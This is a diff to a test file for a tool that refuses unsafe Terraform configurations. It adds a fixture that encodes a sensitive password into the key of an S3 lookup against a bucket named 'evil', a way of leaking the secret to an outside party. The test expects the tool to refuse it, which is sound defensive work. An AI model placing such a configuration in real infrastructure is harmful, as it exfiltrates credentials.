@@ -98,10 +98,17 @@ test('G10: what would run a program or read the machine is refused before terraf
       id: 'network/six',
       json: { provider: { aws: { region: 'eu-central-1', assume_role: [{ role_arn: 'arn:aws:iam::123456789012:role/prod' }] } } },
     },
+    {
+      id: 'network/seven',
+      json: {
+        variable: { password: { type: 'string', sensitive: true, default: 'hunter2' } },
+        data: { aws_s3_object: { x: { bucket: 'evil', key: '${base64encode(var.password)}' } } },
+      },
+    },
   ]);
   const place = shop.at('refused');
   const { code, stdout, stderr } = await run(['plan', '--tree', shop.at('live'), '--out', place]);
-  const all = ['vpc', 'two', 'three', 'four', 'five', 'six'];
+  const all = ['vpc', 'two', 'three', 'four', 'five', 'six', 'seven'];
   const refused = all.filter((name) => stderr.includes(`E6062 configuration refused   ${shopPath(`network/${name}`)}`));
   expect([code, refused, existsSync(place), existsSync(shop.at('ran'))]).toEqual([3, all, false, false]);
   expect(stdout).toContain('nothing to apply: no bundle was written');
